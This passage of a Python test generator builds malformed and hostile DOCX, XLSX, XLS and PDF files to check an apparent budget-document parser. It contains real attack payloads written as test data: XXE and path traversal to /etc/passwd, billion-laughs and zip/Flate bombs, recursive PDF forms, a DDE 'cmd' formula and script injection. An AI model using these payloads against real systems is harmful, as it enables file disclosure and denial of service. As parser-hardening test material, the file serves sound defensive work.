        zip_edit(data, {doc_xml: lambda b: b"not xml at all \x00\xff"}),
        "docx",
        expect="refuse",
    )
    g.file("docx_document_empty.docx", zip_edit(data, {doc_xml: lambda b: b""}), "docx", expect="refuse")
    g.file(
        "docx_rels_loop.docx",
        zip_edit(data, {"_rels/.rels": lambda b: b.replace(b"word/document.xml", b"_rels/.rels")}),
        "docx",
    )
    g.file(
        "docx_rels_traversal.docx",
        zip_edit(data, {"_rels/.rels": lambda b: b.replace(b"word/document.xml", b"../../../../etc/passwd")}),
        "docx",
    )
    g.file(
        "docx_gridspan_999.docx",
        zip_edit(data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="999"/>', b)}),
        "docx",
    )
    g.file(
        "docx_gridspan_huge.docx",
        zip_edit(
            data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="2147483647"/>', b)}
        ),
        "docx",
    )
    g.file(
        "docx_gridspan_negative.docx",
        zip_edit(data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="-7"/>', b)}),
        "docx",
    )
    g.file(
        "docx_gridspan_garbage.docx",
        zip_edit(data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="1e9x"/>', b)}),
        "docx",
    )
    g.file(
        "docx_gridbefore.docx",
        zip_edit(
            data,
            {
                doc_xml: lambda b: re.sub(
                    rb"<w:tr>",
                    b'<w:tr><w:trPr><w:gridBefore w:val="999999"/><w:gridAfter w:val="999999"/></w:trPr>',
                    b,
                )
            },
        ),
        "docx",
    )
    g.file(
        "docx_vmerge_all.docx",
        zip_edit(data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b"<w:tcPr><w:vMerge/>", b)}),
        "docx",
    )
    g.file(
        "docx_hmerge.docx",
        zip_edit(data, {doc_xml: lambda b: re.sub(rb"<w:tcPr>", b'<w:tcPr><w:hMerge w:val="continue"/>', b)}),
        "docx",
    )
    nested = "<w:tbl><w:tr><w:tc>" * 120 + w_p("1.00") + "</w:tc></w:tr></w:tbl>" * 120
    g.file("docx_nested_tables_120.docx", minimal_docx(w_p("2024年度某局部门预算") + nested), "docx")
    nested = (
        "<w:tbl><w:tr><w:tc>" * 80 + w_p("1.00") + "</w:tc></w:tr></w:tbl>" * 80
    )  # libxml2 stops at 256 levels
    g.file("docx_nested_tables_80.docx", minimal_docx(w_p("2024年度某局部门预算") + nested), "docx")
    g.file(
        "docx_deep_runs.docx",
        minimal_docx(
            "<w:p>" + "<w:hyperlink>" * 200 + "<w:r><w:t>x</w:t></w:r>" + "</w:hyperlink>" * 200 + "</w:p>"
        ),
        "docx",
    )
    g.file(
        "docx_deep_sdt.docx",
        minimal_docx("<w:sdt><w:sdtContent>" * 250 + w_p("x") + "</w:sdtContent></w:sdt>" * 250),
        "docx",
    )
    g.file(
        "docx_table_1000x1000.docx",
        minimal_docx(
            w_p("2024年度某局部门预算")
            + w_table(
                [
                    [f"{rng.randrange(10**9)}.{rng.randrange(100):02d}" for _ in range(1000)]
                    for _ in range(1000)
                ]
            )
        ),
        "docx",
    )
    g.file("docx_many_tables.docx", minimal_docx(w_table([["1"]]) * 20_000), "docx")
    g.file(
        "docx_many_paragraphs.docx",
        minimal_docx(
            "".join(
                w_p(
                    f"2024年收入{rng.randrange(10**6)}.{rng.randrange(100):02d}万元，比上年增加{rng.randrange(10**4)}万元。"
                )
                for _ in range(200_000)
            )
        ),
        "docx",
    )
    g.file(
        "docx_huge_paragraph.docx",
        minimal_docx(
            w_p("".join(rng.choice("预算收入支出一般公共政府性基金国有资本经营") for _ in range(3_000_000)))
        ),
        "docx",
    )
    g.file("docx_images_only.docx", minimal_docx("<w:p><w:r><w:drawing/></w:r></w:p>" * 10), "docx")
    g.file("docx_empty_body.docx", minimal_docx(""), "docx")
    g.file(
        "docx_no_body.docx",
        zip_edit(minimal_docx(""), {doc_xml: lambda b: re.sub(rb"<w:body>.*</w:body>", b"", b)}),
        "docx",
    )
    g.file(
        "docx_wrong_namespace.docx",
        zip_edit(
            minimal_docx(w_p("2024年度某局部门预算")),
            {doc_xml: lambda b: b.replace(b"2006/main", b"2006/mainx")},
        ),
        "docx",
    )
    g.file(
        "docx_strict_ooxml.docx",
        zip_edit(
            minimal_docx(w_p("2024年度某局部门预算")),
            {
                doc_xml: lambda b: b.replace(
                    b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                    b"http://purl.oclc.org/ooxml/wordprocessingml/main",
                )
            },
        ),
        "docx",
    )
    hostile_rows = [
        ["项目", "预算数"],
        *[
            [v, v]
            for k, v in HOSTILE_STRINGS.items()
            if k not in ("nul", "ansi", "bel", "cr", "tabformula", "longword")
        ],
    ]
    lines = budget_lines()
    body = (
        w_p(lines[0])
        + "".join(
            w_p(x)
            for x in HOSTILE_STRINGS.values()
            if "\x00" not in x and "\x1b" not in x and "\x07" not in x and "\r" not in x
        )
        + w_table(hostile_rows)
    )
    g.file("docx_hostile_text.docx", minimal_docx(body), "docx")
    g.file(
        "docx_c0_raw.docx",
        minimal_docx("<w:p><w:r><w:t>\x1b[31m红\x07</w:t></w:r></w:p>"),
        "docx",
        expect="refuse",
    )
    g.file(
        "docx_c1_bidi.docx",
        minimal_docx(w_p("2024年度某局\u202e部门预算\x9b31m") + w_p(f"[bold]{MARK}[/bold]")),
        "docx",
    )
    g.file(
        "docx_table_formulas.docx",
        minimal_docx(
            w_p("2024年度某局部门预算")
            + w_p("收支预算总表")
            + w_table(
                [["项目", "预算数"]]
                + [[HOSTILE_STRINGS[k], "1.00"] for k in ("formula", "cmd", "atsum", "dash")]
                + [["合计", "4.00"]]
            )
        ),
        "docx",
    )
    g.file(
        "docx_big_numbers.docx",
        minimal_docx(
            w_p("2024年度某局部门预算")
            + w_p("收支预算总表")
            + w_table([["项目", "预算数"], ["一、一般公共预算拨款", "1" + "0" * 30], ["合计", "1e999999"]])
        ),
        "docx",
    )
    g.file(
        "docx_long_dots.docx", minimal_docx(w_p("目录") + w_p("一、收支总表" + "." * 20_000 + "x")), "docx"
    )
    # a DOCX made of a Word 2003 XML or a flat ODT
    g.file(
        "docx_really_odt.docx",
        zip_edit(
            minimal_docx(""),
            add={"mimetype": b"application/vnd.oasis.opendocument.text"},
            remove=["[Content_Types].xml"],
        ),
        "docx",
    )
    g.file("docx_encrypted_zip.docx", encrypted_zip(), "docx")
    g.file("docx_zip64_comment.docx", data + b"PK\x05\x06" + b"\0" * 16 + b"\xff\xff" + b"x" * 100, "docx")
    g.file("docx_prefix_junk.docx", b"MZ" + rng.randbytes(5000) + data, "docx")


def encrypted_zip() -> bytes:
    """A ZIP whose first member claims to be encrypted (flag bit 0): python's zipfile refuses to read it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    b = bytearray(buf.getvalue())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := b.find(sig, start)) >= 0:
            b[i + off] |= 1
            start = i + 4
    return bytes(b)


# ---- XLSX --------------------------------------------------------------------------------------------


def xlsx_bytes(fill: Callable[[Any], None]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    fill(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def simple_sheet(ws: Any, rows: list[list[Any]]) -> None:
    for r in rows:
        ws.append(r)


BUDGET_ROWS: list[list[Any]] = [
    ["收支预算总表"],
    ["单位：万元"],
    ["项目", "预算数", "项目", "预算数"],
    ["一、一般公共预算拨款", 1000, "一、一般公共服务支出", 1000],
    ["二、政府性基金", 0, "二、教育支出", 0],
    ["收入总计", 1000, "支出总计", 1000],
]


def gen_xlsx(g: Gen, base: dict[str, Path]) -> None:
    rng = g.rng
    built = base.get("xlsx")
    if built is None:
        g.errors.append("xlsx: no built base xlsx")
        return
    data = built.read_bytes()
    g.file("xlsx_good_copy.xlsx", data, "xlsx", expect="read", same_as=built)
    g.file("xlsx_named_xlsm.xlsm", data, "xlsx")
    g.file("xlsx_named_xls.xls", data, "xls")
    g.file("xlsx_named_docx.docx", data, "docx")
    g.file("xlsx_named_md.md", data, "md")
    for label, d in truncations(data, rng, 4):
        g.file(f"xlsx_trunc_{label}.xlsx", d, "xlsx")
    for label, d in flips(data, rng, 4, 20):
        g.file(f"xlsx_flip_{label}.xlsx", d, "xlsx")
    sheet1 = "xl/worksheets/sheet1.xml"

    def merge(ref: str) -> Callable[[bytes], bytes]:
        def f(b: bytes) -> bytes:
            b = re.sub(rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S)
            return b.replace(
                b"</sheetData>",
                b'</sheetData><mergeCells count="1"><mergeCell ref="%s"/></mergeCells>' % ref.encode(),
                1,
            )

        return f

    g.file(
        "xlsx_merge_whole_sheet.xlsx",
        zip_edit(data, {sheet1: merge("A1:XFD1048576")}),
        "xlsx",
        expect="refuse",
    )
    g.file("xlsx_merge_reversed.xlsx", zip_edit(data, {sheet1: merge("XFD1048576:A1")}), "xlsx")
    g.file("xlsx_merge_column.xlsx", zip_edit(data, {sheet1: merge("A1:A1048576")}), "xlsx")
    g.file("xlsx_merge_bad_ref.xlsx", zip_edit(data, {sheet1: merge("A0:ZZZZ99999999")}), "xlsx")
    g.file(
        "xlsx_merge_many.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: re.sub(rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S).replace(
                    b"</sheetData>",
                    b"</sheetData><mergeCells>"
                    + b"".join(b'<mergeCell ref="A%d:Z%d"/>' % (i, i) for i in range(1, 60_000))
                    + b"</mergeCells>",
                    1,
                )
            },
        ),
        "xlsx",
    )
    g.file("xlsx_merge_lowercase.xlsx", zip_edit(data, {sheet1: merge("a1:xfd1048576")}), "xlsx")
    g.file(
        "xlsx_merge_prefixed.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: re.sub(rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S).replace(
                    b"</sheetData>",
                    b'</sheetData><x:mergeCells xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:mergeCell ref="A1:XFD1048576"/></x:mergeCells>',
                    1,
                )
            },
        ),
        "xlsx",
    )
    g.file(
        "xlsx_merge_single_quotes.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: re.sub(rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S).replace(
                    b"</sheetData>",
                    b"</sheetData><mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>",
                    1,
                )
            },
        ),
        "xlsx",
    )
    g.file(
        "xlsx_merge_spaced_attr.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: re.sub(rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S).replace(
                    b"</sheetData>",
                    b'</sheetData><mergeCells><mergeCell ref = "A1:XFD1048576" /></mergeCells>',
                    1,
                )
            },
        ),
        "xlsx",
    )
    g.file(
        "xlsx_dimension_huge.xlsx",
        zip_edit(
            data, {sheet1: lambda b: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', b)}
        ),
        "xlsx",
    )
    g.file(
        "xlsx_billion_laughs.xlsx",
        zip_edit(
            data,
            {
                sheet1: with_dtd(
                    b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>',
                    b"&g;",
                )
            },
        ),
        "xlsx",
        expect="refuse",
    )
    g.file(
        "xlsx_xxe_sheet.xlsx",
        zip_edit(
            data,
            {sheet1: with_dtd(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;")},
        ),
        "xlsx",
        expect="refuse",
    )
    g.file(
        "xlsx_zip_bomb.xlsx",
        zip_edit(data, add={"xl/media/bomb.bin": b"\0" * (300 * 1024 * 1024)}),
        "xlsx",
        expect="refuse",
    )
    g.file(
        "xlsx_sheet_bomb_cells.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: b.replace(
                    b"<sheetData>", b"<sheetData>" + b'<row r="1">' + b"<c/>" * 1_500_000 + b"</row>", 1
                )
            },
        ),
        "xlsx",
    )
    g.file("xlsx_no_workbook.xlsx", zip_edit(data, remove=["xl/workbook.xml"]), "xlsx", expect="refuse")
    g.file(
        "xlsx_no_sheets.xlsx",
        zip_edit(
            data, {"xl/workbook.xml": lambda b: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", b, flags=re.S)}
        ),
        "xlsx",
    )
    g.file(
        "xlsx_styles_garbage.xlsx", zip_edit(data, {"xl/styles.xml": lambda b: b"<styleSheet><<<"}), "xlsx"
    )
    g.file("xlsx_styles_missing.xlsx", zip_edit(data, remove=["xl/styles.xml"]), "xlsx")
    g.file(
        "xlsx_style_index_past.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb' s="\d+"', b' s="99999"', b)}),
        "xlsx",
    )
    g.file(
        "xlsx_shared_index_past.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb'(t="s"[^>]*><v>)\d+', rb"\g<1>9999999", b)}),
        "xlsx",
    )
    g.file(
        "xlsx_shared_index_negative.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb'(t="s"[^>]*><v>)\d+', rb"\g<1>-1", b)}),
        "xlsx",
    )
    g.file(
        "xlsx_bad_cell_refs.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb' r="[A-Z]+(\d+)"', rb' r="ZZZZ\1"', b, count=5)}),
        "xlsx",
    )
    g.file(
        "xlsx_row_zero.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb'<row r="\d+"', b'<row r="0"', b, count=3)}),
        "xlsx",
    )
    g.file(
        "xlsx_row_huge.xlsx",
        zip_edit(data, {sheet1: lambda b: re.sub(rb'<row r="\d+"', b'<row r="99999999999"', b, count=3)}),
        "xlsx",
    )
    g.file(
        "xlsx_ctrl_escapes.xlsx",
        zip_edit(
            data,
            {
                "xl/sharedStrings.xml": lambda b: re.sub(
                    rb"<t>", b"<t>_x001B_[31m_x0007__x202E_[bold]" + MARK.encode() + b"[/bold]", b, count=20
                )
            },
        ),
        "xlsx",
    )
    g.file(
        "xlsx_small_budget.xlsx",
        xlsx_bytes(lambda wb: simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS])),
        "xlsx",
        expect="read",
    )
    g.file(
        "xlsx_deep_xml.xlsx",
        zip_edit(
            data,
            {
                sheet1: lambda b: b.replace(
                    b"<sheetData>", b"<sheetData>" + b"<x>" * 100_000 + b"</x>" * 100_000, 1
                )
            },
        ),
        "xlsx",
    )
    g.file("xlsx_external_link.xlsx", external_link_xlsx(), "xlsx")
    g.file(
        "xlsx_doctype_content_types.xlsx",
        zip_edit(data, {"[Content_Types].xml": lambda b: b.replace(b"?>", b"?><!DOCTYPE t []>", 1)}),
        "xlsx",
    )

    def many_sheets(n: int) -> Callable[[Any], None]:
        def f(wb: Any) -> None:
            simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS])
            for i in range(n):
                wb.create_sheet(f"S{i}")

        return f

    g.file("xlsx_3000_sheets.xlsx", xlsx_bytes(many_sheets(3000)), "xlsx", expect="refuse")
    g.file("xlsx_250_sheets.xlsx", xlsx_bytes(many_sheets(250)), "xlsx")

    def cell_xfd(wb: Any) -> None:
        simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS])
        wb.active["XFD1048576"] = 1

    g.file("xlsx_cell_xfd.xlsx", xlsx_bytes(cell_xfd), "xlsx")

    def cell_xfd_row3(wb: Any) -> None:
        simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS])
        wb.active["XFD4"] = 1
        wb.active["A900000"] = 2

    g.file("xlsx_cell_xfd_in_table.xlsx", xlsx_bytes(cell_xfd_row3), "xlsx")

    def numbers(wb: Any) -> None:
        ws = wb.active
        simple_sheet(ws, [["2024年度某局部门预算"], *BUDGET_ROWS])
        vals: list[Any] = [10**26, 10**30, 1e308, -1e308, 1e-320, 2**63, -(2**63), 10**100]
        for i, v in enumerate(vals):
            c = ws.cell(row=4 + i % 3, column=2 + 2 * (i % 2), value=v)
            c.number_format = [
                "0.00",
                "#,##0_ ",
                "#,##0.00_);(#,##0.00)",
                "0.00E+00",
                "yyyy-mm-dd",
                "[h]:mm:ss",
                "0%",
                '"¥"#,##0',
            ][i]
        for i, fmt in enumerate(
            [
                "yyyy-mm-dd",
                "h:mm",
                "[$-x-sysdate]dddd",
                "@",
                "General",
                ";;;",
                "0.0" + "0" * 300,
                '[<0]"neg";[>1e300]"big"',
            ]
        ):
            c = ws.cell(row=20 + i, column=2, value=1e20 if i % 2 else -1e10)
            c.number_format = fmt

    g.file("xlsx_numbers.xlsx", xlsx_bytes(numbers), "xlsx")

    def formulas(wb: Any) -> None:
        ws = wb.active
        simple_sheet(ws, [["2024年度某局部门预算"], *BUDGET_ROWS])
        for i, k in enumerate(("formula", "cmd", "atsum", "dash")):
            ws.cell(row=10 + i, column=1, value=HOSTILE_STRINGS[k])
        ws["B4"] = "=1/0"
        ws["D4"] = "=SUM(B4:B5)"
        ws["B5"] = "=" + "(" * 5000 + "1" + ")" * 5000

    g.file("xlsx_formulas.xlsx", xlsx_bytes(formulas), "xlsx")

    def hostile_text(wb: Any) -> None:
        ws = wb.active
        ws.title = "收支总表\u202e<b>"
        simple_sheet(ws, [[f"2024年度某局\u202e部门预算[bold]{MARK}[/bold]\x9b"], *BUDGET_ROWS])
        ws["A20"] = "<script>alert(1)</script>"
        ws["A21"] = "经" * 32767

    g.file("xlsx_hostile_text.xlsx", xlsx_bytes(hostile_text), "xlsx")

    def wide_long(wb: Any) -> None:
        ws = wb.active
        for r in range(1, 400):
            ws.append([f"{r}.00"] * 2000)

    g.file("xlsx_800k_cells.xlsx", xlsx_bytes(wide_long), "xlsx")

    def huge_sheet_name(wb: Any) -> None:
        simple_sheet(wb.active, BUDGET_ROWS)

    g.file(
        "xlsx_sheetname_control.xlsx",
        zip_edit(
            xlsx_bytes(huge_sheet_name),
            {
                "xl/workbook.xml": lambda b: re.sub(
                    rb'name="[^"]*"', b'name="\xe6\x94\xb6&#x1b;[31m\xe2\x80\xae_x0007_"', b, count=1
                )
            },
        ),
        "xlsx",
    )
    g.file("xlsx_empty_workbook.xlsx", xlsx_bytes(lambda wb: None), "xlsx")
    g.file("xlsx_empty_zip.xlsx", empty_zip(), "xlsx", expect="refuse")
    g.file("xlsx_not_zip.xlsx", b"PK\x03\x04" + rng.randbytes(3000), "xlsx", expect="refuse")


def empty_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w"):
        pass
    return buf.getvalue()


def external_link_xlsx() -> bytes:
    base = xlsx_bytes(lambda wb: simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS]))
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    wb_rels = "xl/_rels/workbook.xml.rels"
    return zip_edit(
        base,
        {
            wb_rels: lambda b: b.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
            ),
            "xl/workbook.xml": lambda b: b.replace(
                b"</workbook>",
                b'<externalReferences><externalReference r:id="rIdX"/></externalReferences></workbook>',
            ),
            "[Content_Types].xml": lambda b: b.replace(
                b"</Types>",
                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
            ),
        },
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        },
    )


# ---- XLS ---------------------------------------------------------------------------------------------


def gen_xls(g: Gen) -> None:
    rng = g.rng
    template = CORPUS / "shanghai" / "templates" / "2026_putuo_unit_budget_template.xls"
    if not template.is_file():
        g.errors.append("xls: corpus template absent, .xls cases skipped")
        g.file("xls_text.xls", "2024年度部门预算\n收入\t1.00\n", "xls")
        g.file("xls_random.xls", rng.randbytes(4096), "xls")
        return
    data = template.read_bytes()
    g.file("xls_template.xls", data, "xls")
    for label, d in truncations(data, rng, 5):
        g.file(f"xls_trunc_{label}.xls", d, "xls")
    for label, d in flips(data, rng, 5, 30):
        g.file(f"xls_flip_{label}.xls", d, "xls")
    for i, count in enumerate((200, 2000)):
        b = bytearray(data)
        for _ in range(count):  # the OLE header and FAT: sector numbers
            j = rng.randrange(0, 2048)
            b[j] = rng.randrange(256)
        g.file(f"xls_ole_header_{i}.xls", bytes(b), "xls")
    b = bytearray(data)
    b[0x2C:0x30] = (0x7FFFFFFF).to_bytes(4, "little")  # number of FAT sectors
    g.file("xls_fat_count_huge.xls", bytes(b), "xls")
    b = bytearray(data)
    b[0x1E:0x20] = (30).to_bytes(2, "little")  # sector shift 2^30
    g.file("xls_sector_shift.xls", bytes(b), "xls")
    g.file(
        "xls_html_page.xls",
        "<html><body><table><tr><td>2024年度部门预算</td><td>1.00</td></tr></table></body></html>",
        "xls",
    )
    g.file("xls_csv_text.xls", "项目,预算数\n=cmd|' /C calc'!A0,1.00\n", "xls")
    g.file("xls_ole_header_only.xls", data[:512], "xls")
    g.file("xls_ole_sig_random.xls", data[:8] + rng.randbytes(20_000), "xls")


# ---- PDF ---------------------------------------------------------------------------------------------


def gen_pdf(g: Gen, base: dict[str, Path]) -> None:
    rng = g.rng
    built = base.get("pdf")
    corpus = sorted((CORPUS / "shanghai" / "budget").glob("*.pdf"))[:1]
    bases = [p for p in [built, *corpus] if p]
    for src in bases:
        data = src.read_bytes()
        tag = "built" if src == built else "corpus"
        for label, d in truncations(data, rng, 3):
            g.file(f"pdf_{tag}_trunc_{label}.pdf", d, "pdf")
        for label, d in flips(data, rng, 3, 50):
            g.file(f"pdf_{tag}_flip_{label}.pdf", d, "pdf")
        g.file(
            f"pdf_{tag}_xref_broken.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n999999999", data), "pdf"
        )
        g.file(f"pdf_{tag}_xref_zeroed.pdf", re.sub(rb"\d{10} \d{5} n", b"0000000000 00000 n", data), "pdf")
        g.file(f"pdf_{tag}_no_eof.pdf", data.replace(b"%%EOF", b""), "pdf")
        g.file(f"pdf_{tag}_prefix_junk.pdf", rng.randbytes(2000) + data, "pdf")
        g.file(f"pdf_{tag}_named_md.md", data, "md")
        g.file(f"pdf_{tag}_named_docx.docx", data, "docx")
    if built:
        g.file("pdf_built_copy.pdf", built.read_bytes(), "pdf", expect="read", same_as=built)
    g.file("pdf_header_only.pdf", b"%PDF-1.7\n", "pdf", expect="refuse")
    g.file("pdf_empty.pdf", b"", "pdf", expect="refuse")
    g.file("pdf_text_named.pdf", "2024年度部门预算\n", "pdf", expect="refuse")
    # self-drawing form XObject (a recursion bomb in PDFium's page parsing)
    form = stream(
        b"/X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X0 4 0 R >> >>",
    )
    g.file(
        "pdf_form_self.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /XObject << /X0 4 0 R >> >> /Contents 5 0 R >>",
                form,
                stream(b"/X0 Do"),
            ]
        ),
        "pdf",
        expect="refuse",
    )
    # two forms drawing each other
    f1 = stream(
        b"/B Do /B Do /B Do /B Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /B 5 0 R >> >>",
    )
    f2 = stream(
        b"/A Do /A Do /A Do /A Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /A 4 0 R >> >>",
    )
    g.file(
        "pdf_form_mutual.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /XObject << /A 4 0 R >> >> /Contents 6 0 R >>",
                f1,
                f2,
                stream(b"/A Do"),
            ]
        ),
        "pdf",
    )
    # form tree: 12 levels of 10 uses each (10^12 draws, not recursive)
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /L0 4 0 R >> >> /Contents %d 0 R >>"
        % (4 + 12 + 1),
    ]
    for level in range(12):
        nxt = 4 + level + 1
        body = b"/L%d Do " % (level + 1) * 10 if level < 11 else b"BT /F1 1 Tf (1.00) Tj ET"
        objs.append(
            stream(
                body,
                b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /L%d %d 0 R >> >>"
                % (level + 1, nxt),
            )
        )
    objs.append(stream(b"/L0 Do"))
    g.file("pdf_form_tree.pdf", pdf_file(objs), "pdf")
    # compressed content bomb: 300 MB of spaces and path operators
    comp = zlib.compressobj(9)
    chunk = b"0 0 m 1 1 l S " * 70_000
    body = b"".join(comp.compress(chunk) for _ in range(300)) + comp.flush()
    g.file(
        "pdf_flate_bomb.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
                b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
            ]
        ),
        "pdf",
    )
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(b" " * (1 << 20)) for _ in range(1500)) + comp.flush()
    g.file(
        "pdf_flate_bomb_spaces.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
                b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
            ]
        ),
        "pdf",
    )
    # page bombs
    for n, label in ((10_000, "10k"), (100_000, "100k")):
        kids = b" ".join(b"3 0 R" for _ in range(n))
        g.file(
            f"pdf_pages_{label}_shared.pdf",
            pdf_file(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
                ]
            ),
            "pdf",
        )
    g.file(
        "pdf_pages_count_lies.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_pages_loop.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
            ]
        ),
        "pdf",
    )
    g.file("pdf_no_pages.pdf", pdf_file([b"<< /Type /Catalog >>"]), "pdf", expect="refuse")
    g.file("pdf_root_missing.pdf", pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>"], root=9), "pdf")
    try:
        import pypdfium2 as pdfium

        pdf = pdfium.PdfDocument.new()
        for _ in range(10_000):
            pdf.new_page(200, 200)
        buf = io.BytesIO()
        pdf.save(buf)
        g.file("pdf_10000_empty_pages.pdf", buf.getvalue(), "pdf")
        pdf = pdfium.PdfDocument.new()
        for _ in range(1500):
            pdf.new_page(200, 200)
        buf = io.BytesIO()
        pdf.save(buf)
        g.file("pdf_1500_empty_pages.pdf", buf.getvalue(), "pdf")
    except Exception as exc:
        g.errors.append(f"pypdfium2 page bombs: {exc!r}")
    # deep nesting in the object syntax
    g.file(
        "pdf_deep_arrays.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 200_000 + b"]" * 200_000 + b" >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            ]
        ),
